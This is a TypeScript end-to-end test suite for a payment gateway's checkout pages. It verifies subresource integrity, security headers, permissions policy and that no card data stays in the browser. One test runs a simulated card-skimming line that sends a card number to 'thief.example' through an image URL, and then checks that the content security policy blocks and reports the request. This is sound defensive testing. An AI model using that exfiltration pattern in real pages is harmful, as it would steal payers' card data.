import { createHash } from 'node:crypto';
import type { Page, Response } from 'playwright-core';
import { expect, test } from 'vitest';
import { CARDS } from '../../fixtures/cards.ts';
import { anOrder } from '../../fixtures/orders.ts';
import { usePayerBrowser } from '../../support/payer-browser.ts';
import { useSystem } from '../../support/start-system.ts';
import { CardForm } from '../models/card-form.ts';
import { BankPage } from '../models/bank-page.ts';
import { ResultPage } from '../models/result-page.ts';
import { Shop } from '../models/shop.ts';

interface Inventory {
  readonly files: readonly { readonly path: string; readonly kind: string; readonly integrity: string; readonly bytes: number }[];
  readonly pages: readonly {
    readonly page: string;
    readonly headers: Readonly<Record<string, string>>;
    readonly files: readonly string[];
    readonly foreign: boolean;
  }[];
}

interface Seen {
  readonly response: Response;
  /** Of the page that it is, or that has asked for it; `undefined`: the page of the merchant. */
  readonly kind: string | undefined;
}

const system = useSystem();
const browser = usePayerBrowser();

async function inventory(): Promise<Inventory> {
  const response = await fetch(`${system.current.bffs[0].url}/integrity.json`);
  expect(response.headers.get('cache-control')).toBe('public, max-age=300');
  return (await response.json()) as Inventory;
}

/** Everything that the pages of a payer get from the BFF, but calls of the payer API. */
function watched(page: Page): readonly Seen[] {
  const responses: Seen[] = [];
  page.context().on('response', (response) => {
    const { origin, pathname } = new URL(response.url());
    if (origin === system.current.bffs[0].url && !pathname.startsWith('/v1/') && response.status() !== 303) {
      // Of the document that has asked, or the page of the merchant.
      const asking = response.request().isNavigationRequest() ? response.url() : response.request().frame().url();
      responses.push({ response, kind: asking.startsWith(origin) ? kindAt(asking, response.status()) : undefined });
    }
  });
  return responses;
}

function kindAt(address: string, status: number): string {
  const { pathname, searchParams } = new URL(address);
  if (status === 404) return 'problem';
  const [, part, , name] = pathname.split('/');
  if (part !== 'pay') return part ?? '';
  if (name === 'challenge') return searchParams.get('display') === 'modal' ? 'challenge_holder' : 'challenge_html';
  return name ?? 'checkout';
}

/** The template as a pattern. Written apart from the product, which compares in the same way. */
function pattern(template: string): RegExp {
  const escaped = template.replace(/[.*+?^$()|[\]\\]/g, String.raw`\$&`);
  return new RegExp(`^${escaped.replace('{merchant_origins}', String.raw`http://[\w.:-]+`)}$`);
}

/** In every page. An error of the page fails the test. Firefox has no such observer. */
function tellMissingFingerprints(): void {
  if (!('ReportingObserver' in window)) return;
  const tell = (reports: readonly unknown[]): void => {
    for (const report of reports) reportError(new Error(`a script without a fingerprint: ${JSON.stringify(report)}`));
  };
  new ReportingObserver(tell, { types: ['integrity-violation'], buffered: true }).observe();
}

/** Through every kind of page but those of other gateways. */
async function responsesOfAllPages(): Promise<readonly Seen[]> {
  const { api, shop: at, bffs } = system.current;
  const page = await browser.newPayer();
  const responses = watched(page);
  await page.addInitScript(tellMissingFingerprints);
  const shop = new Shop(page, at);
  await shop.order({ address: 'asked' });
  await page.goto('about:blank');
  await shop.order();
  await shop.cardForm.pay(CARDS.challengedByHtml);
  await BankPage.inDialog(page).press('Approve');
  await shop.thanks.waitFor();

  const challenged = new URL((await api.createPayment(anOrder())).checkout_url);
  await page.goto(`${challenged.href}&challenge=redirect`);
  await new CardForm(page).pay(CARDS.challengedByHtml);
  await BankPage.onItsOwn(page).heading.waitFor();
  for (const name of ['/wait', '/cancel', '/returned'])
    await page.goto(`${challenged.origin}${challenged.pathname}${name}${challenged.search}`);

  const paid = new URL((await api.createPayment(anOrder())).checkout_url);
  await page.goto(paid.href);
  await new CardForm(page).pay(CARDS.approved);
  await new ResultPage(page).outcome('Payment complete').waitFor();
  await page.goto(`${paid.origin}${paid.pathname}/result${paid.search}`);
  await page.goto(`${bffs[0].url}/docs`);
  return responses;
}

test('pages of payers run and apply what the inventory lists for them, and have its headers', async () => {
  const { files, pages } = await inventory();
  const responses = await responsesOfAllPages();
  const seen = new Set<string>();
  const differences: string[] = [];

  for (const { response, kind } of responses) {
    const request = response.request();
    const { pathname } = new URL(response.url());
    if (request.resourceType() === 'document') {
      seen.add(kind ?? '');
      const headers = await response.allHeaders();
      const listed = pages.find(({ page }) => page === kind)?.headers ?? {};
      for (const [name, template] of Object.entries(listed)) {
        if (!pattern(template).test(headers[name] ?? '')) differences.push(`${String(kind)}: ${name}: ${headers[name] ?? 'none'}`);
      }
      if (!('content-security-policy' in listed)) differences.push(`${String(kind)} is not listed`);
      continue;
    }
    const file = files.find(({ path }) => path === pathname);
    if (file === undefined) differences.push(`${request.resourceType()} ${pathname} is not listed`);
    if (file === undefined || file.kind === 'image') continue;
    const listed = kind === undefined ? [pathname] : pages.find(({ page }) => page === kind)?.files;
    if (listed?.includes(pathname) !== true) differences.push(`${String(kind)} loads ${pathname}, which is not listed for it`);
    const body = await response.body().catch(() => undefined);
    const integrity = body === undefined ? file.integrity : `sha384-${createHash('sha384').update(body).digest('base64')}`;
    if (integrity !== file.integrity) differences.push(`${pathname} is another file than listed`);
    seen.add(pathname);
  }

  expect(differences).toEqual([]);
  const expected = pages.map(({ page }) => page).filter((page) => !['challenge_form', 'problem'].includes(page));
  expect([...seen]).toEqual(expect.arrayContaining(expected));
  expect([...seen].filter((path) => /course|names-and-addresses|words-/.test(path)).length).toBeGreaterThanOrEqual(4);
});

test('no page may use a camera, a sensor or a device, and each may use what a bank may ask with', async () => {
  const page = await browser.newPayer();
  // Not in a frame, where the page around forbids most already.
  await page.goto((await system.current.api.createPayment(anOrder())).checkout_url);

  const allowed = await page.evaluate(() => {
    const { featurePolicy } = document as unknown as { readonly featurePolicy?: { allowedFeatures(): readonly string[] } };
    return featurePolicy?.allowedFeatures() ?? null;
  });

  // Firefox knows no policy of permissions.
  if (allowed === null) return;
  expect(allowed).toEqual(expect.arrayContaining(['payment', 'publickey-credentials-get']));
  const forbidden = ['camera', 'microphone', 'geolocation', 'usb', 'serial', 'hid', 'clipboard-read', 'display-capture', 'local-fonts'];
  expect(allowed.filter((feature) => forbidden.includes(feature))).toEqual([]);
});

test('what a policy stops in a payer’s browser is reported and counted', async () => {
  const { shop: at, bffs } = system.current;
  const page = await browser.newPayer({}, ['thief.example']);
  const shop = new Shop(page, at);
  await shop.order();
  await shop.cardForm.number.waitFor();
  const frame = page.frames().find((each) => new URL(each.url()).pathname === '/frame')!;

  await frame.evaluate(() => {
    // The way of a script that sends a card away: the address carries it.
    new Image().src = `https://thief.example/collect?card=4444555566661111`;
  });

  const counts = async () => (await (await fetch(`${bffs[0].adminUrl}/reports`)).json()) as Record<string, Record<string, number>>;
  await expect.poll(async () => (await counts())['blocked']).toMatchObject({ 'https://thief.example': 1 });
  expect((await counts())['directives']).toMatchObject({ 'csp img-src': 1 });
  expect((await counts())['pages']).toMatchObject({ frame: 1 });
});

test('a payer’s browser keeps nothing of a card or a token once the payment has ended', async () => {
  const page = await browser.newPayer();
  const { client_token: token, checkout_url: checkoutUrl } = await system.current.api.createPayment(anOrder());
  await page.goto(checkoutUrl);
  await new CardForm(page).pay(CARDS.approved);
  await new ResultPage(page).outcome('Payment complete').waitFor();

  const kept = await page.evaluate(async () => ({
    local: Object.entries(localStorage),
    session: Object.entries(sessionStorage),
    cookies: document.cookie,
    databases: await indexedDB.databases(),
  }));

  expect(kept).toMatchObject({ local: [], cookies: '', databases: [] });
  expect(JSON.stringify(kept)).not.toContain(token);
  expect(JSON.stringify(kept).replaceAll(/[^0-9]/g, '')).not.toContain(CARDS.approved.number);
});
